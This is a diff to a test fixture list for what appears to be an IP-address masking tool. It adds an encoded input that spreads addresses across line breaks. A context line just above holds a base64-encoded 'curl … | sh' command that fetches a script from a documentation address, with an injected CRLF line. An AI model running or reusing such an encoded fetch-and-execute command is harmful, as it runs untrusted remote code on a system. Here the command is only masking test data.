@@ -152,6 +152,11 @@ FORMS = [
         "/?p=Y3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjc3L3guc2h8c2g7%0D%0Ahostname42a",
         "/?p=Y3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjAvMjQveC5zaHxzaDs=%0D%0Ahostname42a",
     ),
+    # a header line, then a payload masked line by line with padding mid-run, an address across a break
+    (
+        "q=QUJDREVGR0hJSktM%0AeD0yMDMuMC4xMTMuNzc7YWFhYWFhYWFhYWFhYWFhYWFhYWFhYWFhYWFhYWFhYWFhYWFhYWFhYWFh%0AYmJiYmJiYmJiYmJiYmJiYmJiYmJiYmJiYmJiYmJiYmJiYmJiYmJiYmJiYmJiYmJiYmJpZD0xOTgu%0ANTEuMTAwLjIzO2NjY2NjY2NjY2NjY2NjY2NjY2NjY2NjY2NjY2NjY2NjY2NjY2NjY2M=",
+        "q=QUJDREVGR0hJSktMeD0yMDMuMC4xMTMuMC8yNDthYWFhYWFhYWFhYWFhYWFhYWFhYWFhYWFhYWFhYWFhYWFhYWFhYWFhYWFiYmJiYmJiYmJiYmJiYmJiYmJiYmJiYmJiYmJiYmJiYmJiYmJiYmJiYmJiYmJiYmJiYmlkPTE5OC41MS4xMDAuMC8yNDtjY2NjY2NjY2NjY2NjY2NjY2NjY2NjY2NjY2NjY2NjY2NjY2NjY2Nj",
+    ),
     # reverse DNS names: the octets and nibbles reversed (the forward reading kept the host octet);
     # a zone no narrower than the mask stays (found by review)
     ("/p/77.113.0.203.in-addr.arpa", "/p/[203.0.113.0/24].in-addr.arpa"),
